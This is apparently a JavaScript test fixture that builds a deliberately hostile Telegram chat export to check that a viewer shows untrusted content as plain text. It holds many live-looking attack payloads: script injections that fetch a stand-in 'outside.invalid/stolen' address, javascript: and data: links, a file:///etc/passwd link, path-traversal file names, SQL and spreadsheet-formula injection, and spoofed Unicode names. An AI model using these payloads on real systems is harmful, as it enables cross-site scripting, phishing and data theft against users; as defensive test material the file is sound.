// What somebody might post to take over, deceive or break whoever reads it: texts, names, links and file names. Imported
// as an export and shown on every page, it must stay what it is: text.
export const outside = 'https://outside.invalid';
const script = (n) => `window.hacked=(window.hacked||0)+1;fetch('${outside}/stolen?${n}')`;

export const texts = [
  `<script>${script(1)}</script>`,
  `<img src=x onerror="${script(2)}">`,
  `"><svg onload="${script(3)}"><iframe srcdoc="<script>${script(4)}</script>">`,
  `</div></article></main></body></html><style>*{display:none}</style><link rel=stylesheet href=${outside}/x.css>`,
  `<base href="${outside}/"><meta http-equiv=refresh content="0;url=${outside}"><form action=${outside}><input autofocus onfocus="${script(5)}">`,
  `{{constructor.constructor('${script(6)}')()}} \${${script(7)}} <%= 1 %> javascript:${script(8)}`,
  '</textarea></title></style></noscript></template><plaintext>',
  '&lt;b&gt;not bold&lt;/b&gt; &amp;#x3C;script&amp;#x3E; &#60;i&#62;',
  '\u202Eesrever ni si siht\u202C and this is not',
  '\u2066\u2067\u2068isolates that never end',
  'z\u0335\u0321a\u0334\u0322l\u0336\u0327g\u0337\u0328o\u0338'.replaceAll(/([a-z])/g, `$1${'\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B'.repeat(6)}`),
  `zero\u200Bwidth\u200Bspaces\u2060and\uFEFFmarks\u00ADhere ${'\u200B'.repeat(3_000)}end`,
  'W'.repeat(20_000),
  'line\n'.repeat(1_500),
  'العربية ثم English ثم עברית 123, mixed',
  '\uFFFD \uFFFE \u0085 \u2028 \u2029 \u000B \u001B[31mred\u001B[0m end',
  '`--> <!-- --!> ]]> <![CDATA[ <? ?> */ /* \\u003cscript\\u003e %3Cscript%3E',
  "'; DROP TABLE messages; --",
  '=HYPERLINK("https://outside.invalid","click") @SUM(1+1)*cmd|\' /C calc\'!A0',
];

/** [words, address]: of text links. */
export const links = [
  ['run me', `javascript:${script(20)}`],
  ['run me too', `JaVaScRiPt\t:\n${script(21)}`],
  ['with a control', `\u0001javascript:${script(22)}`],
  ['data', `data:text/html,<script>${script(23)}</script>`],
  ['vbscript', 'vbscript:msgbox(1)'],
  ['blob', 'blob:https://outside.invalid/1'],
  ['file', 'file:///etc/passwd'],
  ['view-source', 'view-source:https://outside.invalid/'],
  ['bank.example', `${outside}/login`],
  ['https://bank.example/account', 'https://bank.example@outside.invalid/'],
  ['quotes', `${outside}/" onmouseover="${script(24)}" x="`],
  ['breaks', `${outside}/\r\nSet-Cookie:x=1`],
  ['homograph', 'https://аррӏе.com/'],
  ['too long', `${outside}/${'a'.repeat(8_000)}`],
];
/** Plain addresses that are links by themselves. */
export const addresses = ['https://аррӏе.com/', 'javascript:alert(1)', 'https://user:secret@outside.invalid/', 'http://[::1]:4010/api/messages', 'https://outside.invalid/\u202Egnp.exe'];

export const names = [
  `<img src=x onerror="${script(40)}">`, '\u202Enimda', 'Admin\u200B', `${'Name '.repeat(400)}`, '"><script>alert(1)</script>', '\u0000\u0007\u001B]0;title\u0007',
];
export const fileNames = [
  'invoice\u202Efdp.exe', '../../../../etc/cron.d/x', `<img src=x onerror=${script(60)}>.html`, 'a"; filename="b.html', 'page.html', 'evil.svg', `${'long '.repeat(200)}.pdf`, 'CON', '\u200B\u200B', 'line\nbreak.txt', '.htaccess', '%2e%2e%2fx',
];
export const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script>${script(80)}</script><image href="${outside}/x.png"/></svg>`;
export const html = `<!doctype html><script>${script(81)}</script><img src="${outside}/x.png">`;

/** A Telegram Desktop export; `files` are what has to lie beside it. */
export function hostileExport(id = 9_100_000_001) {
  const files = new Map();
  const messages = [];
  const at = Math.floor(Date.UTC(2026, 10, 4, 12) / 1000);
  const add = (more) => {
    const n = messages.length + 1;
    messages.push({ id: n, type: 'message', date: '2026-11-04T12:00:00', date_unixtime: String(at + n * 20), from: names[n % names.length], from_id: `user${1000 + (n % names.length)}`, text: '', text_entities: [], ...more });
  };
  const plain = (text) => ({ text, text_entities: [{ type: 'plain', text }] });
  for (const text of texts) add(plain(text));
  for (const type of ['bold', 'pre', 'spoiler', 'custom_emoji', 'mention', 'bot_command', 'constructor', '__proto__', '<b>']) add({ text: [{ type, text: texts[1] }], text_entities: [{ type, text: texts[1], document_id: '../../x', language: '"><script>' }] });
  for (const [words, href] of links) add({ text: [{ type: 'text_link', text: words, href }], text_entities: [{ type: 'text_link', text: words, href }, { type: 'plain', text: ' after' }] });
  for (const text of addresses) add({ text: [{ type: 'link', text }], text_entities: [{ type: 'link', text }] });
  add({ ...plain('A poll'), poll: { question: texts[1], closed: false, total_voters: 1, answers: [{ text: texts[0], voters: 1, chosen: false }] } });
  add({ ...plain('Forwarded'), forwarded_from: names[0], via_bot: names[4], author: names[1] });
  add({ ...plain('Reacted'), reactions: [{ type: 'emoji', count: 3, emoji: '<b>' }] });
  fileNames.forEach((name, i) => {
    const file = `files/f${i}.${name.endsWith('svg') ? 'svg' : 'html'}`;
    files.set(file, name.endsWith('svg') ? svg : html);
    add({ ...plain('A file'), file, file_name: name, mime_type: name.endsWith('svg') ? 'image/svg+xml' : 'text/html', file_size: 10 });
  });
  // A "photo" that is a page, and a "video" that is one.
  files.set('photos/p.jpg', html);
  add({ ...plain('A photo'), photo: 'photos/p.jpg', width: 2_000_000_000, height: 1 });
  files.set('video/v.mp4', html);
  add({ ...plain('A video'), file: 'video/v.mp4', media_type: 'video_file', mime_type: 'text/html', width: -5, height: 0 });
  add(plain('broken entities here'));
  return { export: { name: `<b>Hostile</b> \u202Elennahc ${names[0]}`, type: 'public_supergroup', id, messages }, files };
}

/** Entities that no text has, as another program might write them into an export of events. */
export const brokenEntities = [
  { type: 'bold', offset: -5, length: 3 }, { type: 'italic', offset: 2, length: 99_999 }, { type: 'spoiler', offset: 9_999, length: 5 }, { type: 'code', offset: 1, length: -4 },
  { type: 'bold', offset: 1, length: 0 }, { type: 'text_link', offset: 0, length: 4, value: `javascript:${script(90)}` }, { type: 'underline', offset: 1, length: 3 }, { type: 'pre', offset: 2, length: 6 },
];
